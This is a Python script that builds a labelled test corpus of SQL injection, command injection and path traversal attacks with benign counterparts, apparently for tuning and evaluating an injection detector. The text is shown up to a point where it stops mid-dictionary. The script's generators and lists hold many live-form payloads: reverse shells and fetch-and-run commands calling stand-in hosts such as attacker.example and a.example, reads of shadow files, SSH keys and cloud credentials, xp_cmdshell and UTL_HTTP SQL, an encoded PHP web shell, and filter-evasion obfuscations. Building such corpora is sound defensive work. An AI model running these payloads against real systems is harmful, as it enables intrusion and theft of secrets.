"""
Writes the SQL injection, command injection and path traversal parts of the
second corpus: C{<category>.attacks.jsonl} and C{<category>.benign.jsonl}
in this directory, from public repositories and from generators.

The repositories are read from local mirrors (C{git --git-dir=... show}); the
JSONL is committed and no test fetches anything.  Each line records its
C{source} (a key of L{SOURCES}, which names the repository, commit, path and
licence) and its C{split}, decided by L{splitOf} before any tuning:

    - every line of a source in L{HOLDOUT_SOURCES} is C{holdout} (whole
      sources kept apart, never read while tuning);
    - any other line is C{holdout} when a seeded hash of its category and
      text falls below L{HOLDOUT_FRACTION}, else C{tune};
    - a text present in a held-out source is held out wherever it appears.

Run: C{python tests/corpus/classic/build_injection.py [--mirrors DIR]}
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import random
import re
import subprocess
import sys
from typing import Callable, Iterable, Iterator, Optional
from urllib.parse import parse_qsl, quote, unquote, unquote_plus, urlsplit

HERE = os.path.dirname(os.path.abspath(__file__))
SEED = "issue16"
HOLDOUT_FRACTION = 0.25
MIRRORS = "/work/.mirror"

# key -> (repository, commit, licence)
REPOS = {
    "patt": ("swisskyrepo/PayloadsAllTheThings", "f9fa51417886ac11476cb62db2dff21773dc570b", "MIT"),
    "crs": ("coreruleset/coreruleset", "2cbd1d019cb7c85319ba4d9102a382c9de7a8e53", "Apache-2.0"),
    "libinjection": ("client9/libinjection", "e86ff4019a4343579cc307d96d79272d5efcd1be", "BSD-3-Clause"),
    "payloadbox-sqli": ("payloadbox/sql-injection-payload-list", "6e55457963a04377b904a93a6a65bb49dfe7bccb", "MIT"),
    "payloadbox-cmdi": ("payloadbox/command-injection-payload-list", "c378188e1154370aa2bd31a109d76748c90f2ae5", "MIT"),
    "payloadbox-lfi": ("payloadbox/rfi-lfi-payload-list", "e0c530899c7e1d9ff63f7483cc2b6e077f6bffd1", "MIT"),
    "sqlfluff": ("sqlfluff/sqlfluff", "e8e8c5d24dee8371acb94177fd8a7a86a783151c", "MIT"),
    "sakila": ("jOOQ/sakila", "e089a5b1ec9af0df7a9c6a5d47d49fa1736a4e84", "BSD-2-Clause"),
    "nvm": ("nvm-sh/nvm", "b17550a0b9ab691439815dfccc8b73e3a59fa103", "MIT"),
    "ohmyzsh": ("ohmyzsh/ohmyzsh", "830a5bcfd29fd577fdcd5f3b8e98cbaf973421fa", "MIT"),
}

# Sources (the C{source} field): where a line comes from.  Generated and
# written lines are this project's own.
SOURCES = {
    "patt": "PayloadsAllTheThings Intruder lists (SQL Injection, Command Injection, Directory Traversal, File Inclusion)",
    "crs": "OWASP CRS regression tests REQUEST-930/932/942, rules of paranoia level 1-2, positive tests",
    "libinjection": "libinjection data/sqli-*.txt (attacks), data/false_positives.txt (benign)",
    "payloadbox-sqli": "payloadbox sql-injection-payload-list Intruder lists",
    "payloadbox-cmdi": "payloadbox command-injection-payload-list README payloads",
    "payloadbox-lfi": "payloadbox rfi-lfi-payload-list README payloads",
    "sqlfluff": "sqlfluff test/fixtures/dialects/*.sql statements; docs prose",
    "sakila": "jOOQ sakila schema statements and data values",
    "nvm": "nvm shell scripts, README prose, commit subjects, file paths",
    "ohmyzsh": "oh-my-zsh plugin scripts, README prose, commit subjects, file paths",
    "generated": "this script: the issue's obfuscations applied to base payloads",
    "written": "this script: hard benign agent traffic written for the corpus",
}
HOLDOUT_SOURCES = frozenset({
    "payloadbox-sqli", "payloadbox-cmdi", "payloadbox-lfi", "sakila", "ohmyzsh",
    # one generator family per category: an obfuscation the rules never saw
    "generated:versioned", "generated:dollar_var", "generated:unc",
})


def splitOf(category: str, text: str, source: str) -> str:
    if source in HOLDOUT_SOURCES:
        return "holdout"
    h = int(hashlib.sha256(f"{SEED}:{category}:{text}".encode("utf-8", "surrogatepass")).hexdigest()[:8], 16)
    return "holdout" if h / 2**32 < HOLDOUT_FRACTION else "tune"


class Mirror:
    def __init__(self, root: str):
        self.root = root

    def _git(self, key: str, *args: str) -> bytes:
        repo, commit, _ = REPOS[key]
        gitDir = os.path.join(self.root, repo.replace("/", "+"), "repo")
        if not os.path.isdir(gitDir):
            raise SystemExit(f"{repo}: no mirror at {gitDir} (fetch it first)")
        args = tuple(a.replace("@REV", commit or "HEAD") for a in args)
        return subprocess.run(["git", f"--git-dir={gitDir}", *args], check=True, capture_output=True).stdout

    def show(self, key: str, path: str) -> str:
        try:
            return self._git(key, "show", f"@REV:{path}").decode("utf-8", "replace")
        except subprocess.CalledProcessError:  # listed but absent from the snapshot
            print(f"skipped {key}:{path}: not in the mirror", file=sys.stderr)
            return ""

    def files(self, key: str, under: str = "") -> list[str]:
        out = self._git(key, "ls-tree", "-r", "--name-only", "@REV", *([under] if under else []))
        return out.decode("utf-8", "replace").splitlines()

    def subjects(self, key: str, n: int) -> list[str]:
        return self._git(key, "log", f"-{n}", "--format=%s", "@REV").decode("utf-8", "replace").splitlines()


def lines(text: str, comments: bool = False) -> Iterator[str]:
    for line in text.splitlines():
        line = line.rstrip("\r")
        if not line.strip() or (comments and line.startswith("#")):
            continue
        yield line


def sample(rng: random.Random, items: Iterable[str], n: int) -> list[str]:
    seen: list[str] = []
    for x in items:
        if x not in seen:
            seen.append(x)
    return seen if len(seen) <= n else rng.sample(seen, n)


def fenced(markdown: str) -> Iterator[str]:
    inside = False
    for line in markdown.splitlines():
        if line.strip().startswith("```"):
            inside = not inside
            continue
        if inside and line.strip():
            yield line.strip()


# --- attack sources ----------------------------------------------------------


def crsPositives(m: Mirror, prefix: str) -> list[str]:
    """
    The argument values of the positive tests of the CRS rules of paranoia
    level 1 and 2 in the rule file starting C{prefix}, decoded once as the
    WAF's C{urlDecodeUni} does.
    """
    import yaml

    conf = next(p for p in m.files("crs", "rules/") if os.path.basename(p).startswith(prefix) and p.endswith(".conf"))
    levels = {
        int(i): int(pl)
        for i, pl in re.findall(r"id:(\d+),(?:(?!id:\d).){0,3000}?tag:'paranoia-level/(\d)'", m.show("crs", conf), re.S)
    }
    out = []
    for path in m.files("crs", "tests/regression/tests/"):
        if not os.path.basename(os.path.dirname(path)).startswith(prefix) or not path.endswith(".yaml"):
            continue
        doc = yaml.safe_load(m.show("crs", path))
        rule = doc.get("rule_id")
        if levels.get(rule, 9) > 2:
            continue
        for test in doc.get("tests", ()):
            for stage in test.get("stages", ()):
                inp, want = stage.get("input", {}), stage.get("output", {}).get("log", {})
                if rule not in (want.get("expect_ids") or ()):
                    continue
                values = []
                data = inp.get("data")
                if isinstance(data, str) and "=" in data and not data.lstrip().startswith(("{", "<")):
                    values.extend(v for _, v in parse_qsl(data, keep_blank_values=False))
                query = urlsplit(str(inp.get("uri", ""))).query
                if query:
                    values.extend(v for _, v in parse_qsl(query, keep_blank_values=False))
                out.extend(v for v in values if v.strip())
    return out


def sqlAttackSources(m: Mirror, rng: random.Random) -> Iterator[tuple[str, str]]:
    for path in m.files("patt", "SQL Injection/Intruder/"):
        for line in sample(rng, (x.strip() for x in lines(m.show("patt", path))), 50):
            yield "patt", line
    for path in m.files("libinjection", "data/"):
        if not os.path.basename(path).startswith("sqli-"):
            continue
        for line in sample(rng, (unquote_plus(x).strip() for x in lines(m.show("libinjection", path), comments=True)), 40):
            yield "libinjection", line
    for line in crsPositives(m, "REQUEST-942"):
        yield "crs", line
    for path in m.files("payloadbox-sqli", "Intruder/"):
        for line in sample(rng, (x.strip() for x in lines(m.show("payloadbox-sqli", path))), 40):
            yield "payloadbox-sqli", line


def cmdAttackSources(m: Mirror, rng: random.Random) -> Iterator[tuple[str, str]]:
    for path in m.files("patt", "Command Injection/Intruder/"):
        for line in lines(m.show("patt", path)):
            yield "patt", line.strip()
    for line in crsPositives(m, "REQUEST-932"):
        yield "crs", line
    for line in fenced(m.show("payloadbox-cmdi", "README.md")):
        yield "payloadbox-cmdi", line


_PATT_FILES = ("etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ", "etc/hosts", "var/log/apache2/access.log")


def pathAttackSources(m: Mirror, rng: random.Random) -> Iterator[tuple[str, str]]:
    for path in m.files("patt", "Directory Traversal/Intruder/"):
        for line in sample(rng, lines(m.show("patt", path)), 150):
            yield "patt", line.strip().replace("{FILE}", rng.choice(_PATT_FILES))
    for path in m.files("patt", "File Inclusion/Intruders/"):
        for line in sample(rng, lines(m.show("patt", path)), 60):
            yield "patt", line.strip()
    for line in crsPositives(m, "REQUEST-930"):
        yield "crs", line
    for line in fenced(m.show("payloadbox-lfi", "README.md")):
        yield "payloadbox-lfi", line


# A line that carries no attack on its own (a bare number, a word) is
# dropped: the lists hold such filler for fuzzers.
_CARRIES = {
    "sql_injection": re.compile(
        r"\b(?:or|and|xor|not|union|select|insert|update|delete|drop|create|alter|exec|execute|declare|waitfor|sleep|"
        r"benchmark|having|order\s+by|group\s+by|like|rlike|regexp|glob|into|from|where|case|when|if|char|concat|null|"
        r"true|false|procedure|shutdown|truncate|collate|similar|notnull|mod|div)\b|['\"`].*(?:--|#|/\*|;)",
        re.I,
    ),
    "command_injection": re.compile(r"[;|&`$\n]|%0a|\b(?:cmd|powershell|system|exec|eval|passthru)\b", re.I),
    "path_traversal": re.compile(r"\.\.|%2e|%c0|%e0|%u|0x2e|^\s*[/\\~]|^[a-z]:|://|%00|\\", re.I),
}

# A list's comment line ("# run wireshark ...") and the description some
# lists put after a tab ("`<TAB>Backtick") are no payload.
_COMMENT_LINE = re.compile(r"^#\s+[A-Za-z]")
_DESCRIBED = re.compile(r"\t+\s*[A-Z][a-z][\w ,()-]*$")

# --- generators --------------------------------------------------------------

SQL_BASES = [
    "' OR 1=1--", "' or true--", "1 OR 1=1", "or true--", "OR 1=0#", " AND 1=0 AND '%'='", "1 AND 1=1", "x' AND 'a'='a",
    "' UNION SELECT username, password FROM users--", "1 UNION ALL SELECT NULL,NULL,version()", "-1 UNION SELECT 1,@@version,3",
    "'; DROP TABLE users--", "1; DECLARE @x VARCHAR(99); SET @x='a'; EXEC(@x)", "1; ALTER TABLE users ADD admin INT--",
    "1; CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib.so'--", "' AND SLEEP(5)--", "1; WAITFOR DELAY '0:0:5'--",
    "1 AND pg_sleep(5)", "' AND 1=CONVERT(int,@@version)--", "' AND extractvalue(1,concat(0x7e,version()))--",
    "1 AND ASCII(SUBSTRING((SELECT password FROM users),1,1))>64", "' OR EXISTS(SELECT * FROM users)--",
    "1 UNION SELECT name FROM sqlite_master", "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',5)", "' HAVING 1=1--",
]
CMD_BASES = [
    ("cat", "/etc/passwd"), ("whoami", ""), ("id", ""), ("uname", "-a"), ("curl", "http://attacker.example/x.sh"),
    ("wget", "http://attacker.example/b -O /tmp/b"), ("nc", "-e /bin/sh attacker.example 4444"), ("ls", "-la /"),
    ("cat", "/etc/shadow"), ("bash", "-i"), ("sleep", "10"), ("ping", "-c 5 attacker.example"), ("rm", "-rf /tmp/x"),
    ("python3", "-c 'import os;os.system(\"id\")'"), ("head", "/etc/hosts"), ("nslookup", "attacker.example"),
]
CMD_HOSTS = ["127.0.0.1", "example.com", "report.pdf", "8.8.8.8", "main", "photo.png", ""]
PATH_TARGETS = [
    "etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline", "root/.ssh/id_rsa", "var/log/nginx/access.log",
    "etc/nginx/nginx.conf", "etc/apache2/apache2.conf", "usr/local/etc/php/php.ini", "home/ubuntu/.aws/credentials",
    "windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini", "var/www/html/wp-config.php", "app/.env",
]


def _fullwidth(s: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in s)


def _commentSplit(s: str, rng: random.Random) -> str:
    def split(m: "re.Match[str]") -> str:
        w = m.group(0)
        k = rng.randint(1, len(w) - 1)
        return w[:k] + "/**/" + w[k:]

    return re.sub(r"\b(?:UNION|SELECT|DECLARE|SLEEP|WAITFOR|ALTER|CREATE|DROP|EXEC|OR|AND|FROM)\b", split, s, flags=re.I)


SQL_TRANSFORMS: dict[str, Callable[[str, random.Random], str]] = {
    "plain": lambda s, r: s,
    "comment_split": _commentSplit,
    "comment_space": lambda s, r: s.replace(" ", "/**/"),
    "versioned": lambda s, r: re.sub(r"\b(UNION|SELECT|SLEEP)\b", r"/*!50000\1*/", s, flags=re.I),
    "case": lambda s, r: "".join(c.upper() if r.random() < 0.5 else c.lower() for c in s),
    "url": lambda s, r: quote(s, safe=""),
    "double_url": lambda s, r: quote(quote(s, safe=""), safe=""),
    "tab_newline": lambda s, r: s.replace(" ", r.choice(["\t", "\n", "%09", "%0a", "%0b", "+"])),
    "pct_u": lambda s, r: "".join(f"%u{ord(c):04x}" if c in "' =" else c for c in s),
    "fullwidth_quote": lambda s, r: s.replace("'", "\uff07"),
    "html": lambda s, r: s.replace("'", "&#39;").replace(" ", "&#32;"),
    "prefix_value": lambda s, r: r.choice(["admin", "42", "john", "7"]) + s,
}


def _quoteInsert(word: str, rng: random.Random) -> str:
    if len(word) < 2:
        return word
    k = rng.randint(1, len(word) - 1)
    return word[:k] + rng.choice(["''", '""', "\\"]) + word[k:]


def _glob(path: str) -> str:
    return re.sub(r"[a-z]", lambda m: "?" if ord(m.group(0)) % 2 else m.group(0), path)


CMD_TRANSFORMS: dict[str, Callable[[str, str, random.Random], str]] = {
    "plain": lambda c, a, r: f"{c} {a}".strip(),
    "quote_insert": lambda c, a, r: f"{_quoteInsert(c, r)} {a}".strip(),
    "backslash": lambda c, a, r: "\\".join(c) + (" " + a if a else ""),
    "ifs": lambda c, a, r: c + (r.choice(["${IFS}", "$IFS$9", "${IFS%??}"]) + a.replace(" ", "${IFS}") if a else ""),
    "brace": lambda c, a, r: "{" + ",".join([c] + a.split()) + "}" if a else c,
    "glob": lambda c, a, r: "/???/" + c[0] + "?" * (len(c) - 1) + (" " + re.sub(r"(?<=/)(\w)\w+", lambda m: m.group(1) + "??", a) if a else ""),
    "hex": lambda c, a, r: "$'" + "".join(f"\\x{ord(x):02x}" for x in c) + "'" + (" " + a if a else ""),
    "rev": lambda c, a, r: f"echo '{(c + ' ' + a).strip()[::-1]}' | rev | sh",
    "base64": lambda c, a, r: "echo " + __import__("base64").b64encode(f"{c} {a}".strip().encode()).decode() + " | base64 -d | bash",
    "herestring": lambda c, a, r: f"bash<<<\"{c} {a}\"".replace(" \"", "\""),
    "dollar_var": lambda c, a, r: f"a={c[:1]};b={c[1:]};$a$b {a}".strip(),
    "positional": lambda c, a, r: c[0] + "$@" + c[1:] + (" " + a if a else ""),
    "substr_slash": lambda c, a, r: f"{c} {a.replace('/', '${HOME:0:1}')}".strip(),
}
CMD_SEPARATORS = {
    "semicolon": "; ", "pipe": " | ", "and": " && ", "or": " || ", "amp": " & ", "newline": "\n", "enc_newline": "%0a",
    "subst": "$(", "backtick": "`",
}


def _wrap(sep: str, cmd: str) -> str:
    if sep == "$(":
        return f"$({cmd})"
    if sep == "`":
        return f"`{cmd}`"
    return sep + cmd


CMD_EXTRA = [
    "; python -c 'import os; os.system(\"id\")'", "; php -r 'system(\"id\");'", "; perl -e 'exec \"/bin/sh\"'",
    "; ruby -e 'exec \"id\"'", "; node -e 'require(\"child_process\").execSync(\"id\")'", "exec('cat /etc/passwd')",
    "system('id')", "passthru('whoami')", "${@system('id')}", "& cmd /c whoami", "| cmd.exe /c dir c:\\",
    "& powershell -c Get-Content C:\\Windows\\win.ini", "; powershell -nop -w hidden -c \"iex(New-Object Net.WebClient).DownloadString('http://a.example/p')\"",
    "| type C:\\Windows\\win.ini", "& net user", "& whoami /priv", "| systeminfo", "& ipconfig /all", "&& tasklist",
    "; Invoke-WebRequest http://a.example/x -OutFile x.exe", "& certutil -urlcache -split -f http://a.example/x x.exe",
    "; busybox nc a.example 4444 -e sh", "; awk 'BEGIN {system(\"id\")}'", "; find / -name id_rsa", "; env",
    "; xterm -display a.example:1", "| tee /tmp/x", "; crontab -l", "; getent passwd", "; lua -e 'os.execute(\"id\")'",
]

PATH_TRANSFORMS: dict[str, Callable[[str, int, random.Random], str]] = {
    "plain": lambda t, n, r: "../" * n + t,
    "backslash": lambda t, n, r: "..\\" * n + t.replace("/", "\\"),
    "mixed": lambda t, n, r: "".join(r.choice(["../", "..\\"]) for _ in range(n)) + t,
    "url": lambda t, n, r: "%2e%2e%2f" * n + t,
    "url_slash": lambda t, n, r: "..%2f" * n + t,
    "double": lambda t, n, r: "%252e%252e%252f" * n + t,
    "triple": lambda t, n, r: "%25252e%25252e%25252f" * n + t,
    "overlong": lambda t, n, r: "%c0%ae%c0%ae%c0%af" * n + t,
    "overlong3": lambda t, n, r: "%e0%80%ae%e0%80%ae%e0%80%af" * n + t,
    "overlong_bs": lambda t, n, r: "..%c1%9c" * n + t,
    "pct_u": lambda t, n, r: "%u002e%u002e%u2215" * n + t,
    "fullwidth": lambda t, n, r: "\uff0e\uff0e\uff0f" * n + t,
    "fullwidth_pct_u": lambda t, n, r: "%uff0e%uff0e%u2215" * n + t,
    "hex_dots": lambda t, n, r: "0x2e0x2e/" * n + t,
    "nested": lambda t, n, r: "....//" * n + t,
    "semicolon": lambda t, n, r: "..;/" * n + t,
    "nul": lambda t, n, r: "../" * n + t + r.choice(["%00", "%00.png", "\x00.jpg", "%00.html"]),
    "absolute": lambda t, n, r: "/" + t,
    "absolute_backslash": lambda t, n, r: "\\" + t.replace("/", "\\"),
    "file_url": lambda t, n, r: "file:///" + t,
    "php_filter": lambda t, n, r: "php://filter/convert.base64-encode/resource=/" + t,
    "php_filter_read": lambda t, n, r: "php://filter/read=string.rot13/resource=" + "../" * n + t,
    "zip": lambda t, n, r: "zip://uploads/avatar.zip%23" + t.rsplit("/", 1)[-1],
    "expect": lambda t, n, r: "expect://cat /" + t,
    "windows_drive": lambda t, n, r: "C:\\" + t.replace("/", "\\") if t.startswith("windows") else "C:/" + t,
    "unc": lambda t, n, r: "\\\\localhost\\c$\\" + t.replace("/", "\\"),
    "prefix_dir": lambda t, n, r: r.choice(["images/", "uploads/", "static/", "templates/"]) + "../" * (n + 1) + t,
}


# --- more generators (session 10): tune only ---------------------------------
# Forms the issue lists that the generators above did not produce, each
# applied to base payloads of its own (a separate random stream, so the
# lines above stay as they were).  Every line of these families is C{tune}:
# they were written knowing the rules, so they cannot stand for traffic the
# rules were not tuned on.

SQL_BASES_MORE = [
    "'; EXEC xp_cmdshell 'whoami'--", "1; EXEC master..xp_dirtree '\\\\a.example\\x'--", "1; COPY (SELECT '') TO PROGRAM 'id'--",
    "' || UTL_HTTP.REQUEST('http://a.example/'||user)--", "1 AND 1=(SELECT COUNT(*) FROM all_users)", "' AND 1=randomblob(500000000)--",
    "1 UNION SELECT sqlite_version()", "' AND (SELECT 1 FROM pg_sleep(5)) IS NULL--", "1 OR 1=1 LIMIT 1--", "admin'/*",
    "' OR 1 IN (SELECT @@version)--", "1 AND ORD(MID(user(),1,1))>64", "'; SHUTDOWN--", "1 ORDER BY 5--", "' GROUP BY 1 HAVING 1=1--",
    "1' AND '1'='1", "\" OR \"\"=\"", "') OR ('a'='a", "1)) OR 1=1--", "' OR 'x' LIKE 'x", "1 AND 'a'<>'b'", "' OR 2>1--",
    "1; SELECT * FROM pg_shadow--", "' UNION SELECT table_name FROM information_schema.tables--", "-1' UNION SELECT 1,2,3#",
    "1 AND IF(1=1,SLEEP(5),0)", "' AND (SELECT CASE WHEN 1=1 THEN 1/0 ELSE 1 END)=1--", "1; DROP TABLE sessions",
]


def _sqlWords(s: str, fn: Callable[[str], str]) -> str:
    return re.sub(r"\b(?:UNION|SELECT|FROM|WHERE|AND|OR|EXEC|DROP|TABLE|ORDER|BY|SLEEP|HAVING|LIMIT|COUNT|IN|LIKE|IS|NULL)\b",
                  lambda m: fn(m.group(0)), s, flags=re.I)


def _charLiterals(s: str) -> str:
    return re.sub(r"'([A-Za-z0-9]{1,12})'", lambda m: "CHAR(" + ",".join(str(ord(c)) for c in m.group(1)) + ")", s)


def _hexLiterals(s: str) -> str:
    return re.sub(r"'([A-Za-z0-9]{1,12})'", lambda m: "0x" + m.group(1).encode().hex(), s)


SQL_TRANSFORMS_MORE: dict[str, Callable[[str, random.Random], str]] = {
    "plain2": lambda s, r: s,
    "line_comment": lambda s, r: s.replace(" ", r.choice(["--%0a", "#%0a", "-- x\n", "#\n"])),
    "comment_text": lambda s, r: s.replace(" ", r.choice(["/*foo*/", "/*!*/", "/*x y*/", "/*--*/"])),
    "parens": lambda s, r: re.sub(r"\b(UNION|SELECT|AND|OR|WHERE)\s+", r"\1(", s, flags=re.I),
    "spaces_other": lambda s, r: s.replace(" ", r.choice(["%0c", "%0d", "%a0", "%20", "%09%09", "\r\n"])),
    "pct_quote": lambda s, r: s.replace("'", "%27").replace("\"", "%22").replace("#", "%23"),
    "unicode_escape": lambda s, r: s.replace("'", "\\u0027").replace(" ", "\\u0020"),
    "char_literals": lambda s, r: _charLiterals(s),
    "hex_literals": lambda s, r: _hexLiterals(s),
    "case_comment": lambda s, r: _sqlWords(_commentSplit(s, r), lambda w: "".join(c.upper() if r.random() < 0.5 else c.lower() for c in w)),
    "url_comment": lambda s, r: quote(s.replace(" ", "/**/"), safe=""),
    "html_dec": lambda s, r: "".join(f"&#{ord(c)};" if c in "'\" =" else c for c in s),
    "html_hex": lambda s, r: "".join(f"&#x{ord(c):x};" if c in "'\" =<>" else c for c in s),
    "fullwidth": lambda s, r: _fullwidth(s),
    "backslash_quote": lambda s, r: s.replace("'", "\\'"),
    "nul_prefix": lambda s, r: r.choice(["%00", "\\0", "\x00"]) + s,
    # two of the obfuscations stacked: encoding once more keeps it an attack
    "url_case_split": lambda s, r: quote(SQL_TRANSFORMS["case"](_commentSplit(s, r), r), safe=""),
    "double_url_tab": lambda s, r: quote(quote(s.replace(" ", "\t"), safe=""), safe=""),
    "html_url": lambda s, r: "".join(f"&#{ord(c)};" if c in "%" else c for c in quote(s, safe=" ")),
    "pct_u_comment": lambda s, r: "".join(f"%u{ord(c):04x}" if c in "'=" else c for c in s.replace(" ", "/**/")),
}

CMD_BASES_MORE = [
    ("cat", "/etc/passwd"), ("id", ""), ("whoami", ""), ("uname", "-a"), ("ls", "-la /root"), ("curl", "http://a.example/s|sh"),
    ("wget", "-q -O- http://a.example/x"), ("nc", "a.example 4444 -e /bin/bash"), ("ps", "aux"), ("sleep", "5"),
    ("cat", "/proc/self/environ"), ("tail", "-n 20 /var/log/auth.log"), ("env", ""), ("hostname", ""), ("ifconfig", ""),
]


def _octal(c: str) -> str:
    return "$'" + "".join(f"\\{ord(x):03o}" for x in c) + "'"


def _uEscape(c: str) -> str:
    return "$'" + "".join(f"\\u{ord(x):04x}" if i % 2 == 0 else x for i, x in enumerate(c)) + "'"


CMD_TRANSFORMS_MORE: dict[str, Callable[[str, str, random.Random], str]] = {
    "octal": lambda c, a, r: _octal(c) + (" " + a if a else ""),
    "u_escape": lambda c, a, r: _uEscape(c) + (" " + a if a else ""),
    "printf_subst": lambda c, a, r: "$(printf '" + "".join(f"\\x{ord(x):02x}" for x in c) + "')" + (" " + a if a else ""),
    "xxd": lambda c, a, r: "echo " + f"{c} {a}".strip().encode().hex() + " | xxd -r -p | sh",
    "tr_rot13": lambda c, a, r: "echo '" + f"{c} {a}".strip().translate(str.maketrans(
        "abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")) + "' | tr a-z n-za-m | bash",
    "eval": lambda c, a, r: (lambda q: f"eval {q}{c} {a}".strip() + q)(r.choice("'\"")),
    "path_substr": lambda c, a, r: c + " " + a.replace("/", "${PATH:0:1}") if "/" in a else c,
    "unset_var": lambda c, a, r: c[0] + r.choice(["${u}", "${x}", "$()", "$u\"\""]) + c[1:] + (" " + a if a else ""),
    "star_positional": lambda c, a, r: c[0] + r.choice(["$*", "$9", "$5"]) + c[1:] + (" " + a if a else ""),
    "char_class": lambda c, a, r: "/bin/" + c[0] + "[" + c[1:2] + "]" + c[2:] + (" " + a if a else ""),
    "star_glob": lambda c, a, r: "/b*/" + c + (" " + re.sub(r"(?<=/)(\w\w)\w+", r"\1*", a) if a else ""),
    "double_quote_insert": lambda c, a, r: c[0] + '"' + c[1:2] + '"' + c[2:] + (" " + a if a else ""),
    "quote_whole": lambda c, a, r: "'" + c + "'" + (" " + a if a else ""),
    "ifs_var": lambda c, a, r: c + ("$IFS" + a.replace(" ", "$IFS") if a else ""),
    "tab": lambda c, a, r: c + ("\t" + a.replace(" ", "\t") if a else ""),
    "brace_ifs": lambda c, a, r: "{" + c + (",".join([""] + a.split()) if a else ",") + "}",
    # two stacked: an obfuscation, then URL encoding of the whole line
    "url_quote_insert": lambda c, a, r: quote(f"{_quoteInsert(c, r)} {a}".strip(), safe=""),
    "url_ifs": lambda c, a, r: quote(c + ("${IFS}" + a.replace(" ", "${IFS}") if a else ""), safe=""),
    "double_url_backslash": lambda c, a, r: quote(quote("\\".join(c) + (" " + a if a else ""), safe=""), safe=""),
}
CMD_SEPARATORS_MORE = {
    "semicolon_tight": ";", "pipe_tight": "|", "and_tight": "&&", "or_tight": "||", "amp_tight": "&", "crlf": "\r\n",
    "enc_crlf": "%0d%0a", "enc_semicolon": "%3b", "enc_pipe": "%7c", "enc_amp": "%26", "quote_semicolon": "'; ",
    "dquote_semicolon": "\"; ", "quote_pipe": "' | ", "subst": "$(", "backtick": "`", "newline": "\n",
}
CMD_EXTRA_MORE = [
    "& c^m^d /c who^ami", "| cmd /c \"who\"\"ami\"", "& %COMSPEC% /c dir", "&& set x=who&& set y=ami&& call %x%%y%",
    "| powershell -enc dwBoAG8AYQBtAGkA", "& powershell IEX(iwr http://a.example/p)", "| cmd /v:on /c \"set x=whoami&&!x!\"",
    "; powershell -c \"& ('who'+'ami')\"", "& powershell gc C:\\Windows\\win.ini", "| type%ProgramFiles:~10,1%C:\\Windows\\win.ini",
    "& ,;cmd /c whoami", "; python3 -c \"__import__('os').system('id')\"", "| php -r \"passthru('id');\"",
    "; perl -MIO::Socket -e 'exec \"/bin/sh\"'", "; node -e \"require('child_process').exec('id')\"",
    "; ruby -e 'system(\"id\")'", "| awk 'BEGIN{system(\"id\")}'", "; os.popen('id').read()", "${@passthru('id')}",
    "; IO.popen('id').read", "Runtime.getRuntime().exec(\"id\")", "; pcntl_exec('/bin/sh')", "| proc_open('id',$d,$p)",
    "; lua -e 'os.execute(\"id\")'", "| osascript -e 'do shell script \"id\"'", "; gawk 'BEGIN{system(\"id\")}'",
    "& wmic process call create calc.exe", "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "| mshta http://a.example/x.hta", "& regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll",
    # looking around a host or a domain (Windows, Linux), after a separator
    "& netsh wlan show profiles", "| route print", "&& nltest /domain_trusts", "& schtasks /query /fo LIST /v",
    "| gpresult /z", "& vssadmin list shadows", "; df -h", "| dmesg", "; lscpu", "&& lsblk -f", "; hostnamectl",
]

PATH_TARGETS_MORE = [
    "etc/passwd", "etc/shadow", "proc/self/fd/0", "var/run/secrets/kubernetes.io/serviceaccount/token", "etc/mysql/my.cnf",
    "etc/ssh/sshd_config", "inetpub/wwwroot/web.config", "usr/local/apache2/conf/httpd.conf", "home/user/.bash_history",
    "root/.bashrc", "etc/environment", "etc/fstab", "etc/crontab", "var/log/auth.log", "var/mail/root",
    "windows/system32/config/sam", "windows/repair/sam", "windows/panther/unattend.xml", "xampp/apache/conf/httpd.conf",
    "opt/tomcat/conf/tomcat-users.xml", "etc/php/7.4/apache2/php.ini", "etc/redis/redis.conf",
    "var/lib/jenkins/secrets/initialAdminPassword", "proc/self/status", "etc/group",
]
PATH_TRANSFORMS_MORE: dict[str, Callable[[str, int, random.Random], str]] = {
    "url_backslash": lambda t, n, r: "%2e%2e%5c" * n + t.replace("/", "%5c"),
    "double_backslash": lambda t, n, r: "%252e%252e%255c" * n + t,
    "upper_pct": lambda t, n, r: "%2E%2E%2F" * n + t,
    "half_dot": lambda t, n, r: r.choice([".%2e/", "%2e./", "..%2F", ".%2E%2F"]) * n + t,
    "dot_slash": lambda t, n, r: "./" + "../" * n + t.replace("/", "/./"),
    "double_slash": lambda t, n, r: "..//" * n + t.replace("/", "//"),
    "fullwidth_backslash": lambda t, n, r: "\uff0e\uff0e\uff3c" * n + t,
    "overlong_c0_2f": lambda t, n, r: "..%c0%2f" * n + t,
    "overlong_c0_5c": lambda t, n, r: "..%c0%5c" * n + t,
    "pct_u_backslash": lambda t, n, r: "%u002e%u002e%u2216" * n + t,
    "pct_u_plain": lambda t, n, r: "%u002e%u002e%u002f" * n + t,
    "dot_leader": lambda t, n, r: "\u2024\u2024/" * n + t,
    "absolute_encoded": lambda t, n, r: "%2f" + t.replace("/", "%2f"),
    "absolute_dotslash": lambda t, n, r: "/./" + t.replace("/", "/./"),
    "absolute_double": lambda t, n, r: "//" + t.replace("/", "//"),
    "absolute_climb": lambda t, n, r: "/" + t.split("/")[0] + "/../" + t,
    "absolute_nul": lambda t, n, r: "/" + t + r.choice(["%00", "%00.jpg", "%2500.png"]),
    "encoded_nul": lambda t, n, r: "../" * n + t + "%2500",
    "file_localhost": lambda t, n, r: "file://localhost/" + t,
    "file_single": lambda t, n, r: r.choice(["file:/", "FILE:///", "file:////"]) + t,
    "phar": lambda t, n, r: "phar://uploads/avatar.jpg/" + t.rsplit("/", 1)[-1],
    "data_wrapper": lambda t, n, r: "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "compress": lambda t, n, r: r.choice(["compress.zlib:///", "compress.bzip2:///", "glob:///"]) + t,
    "php_filter_chain": lambda t, n, r: "php://filter/convert.iconv.utf-8.utf-16/resource=/" + t,
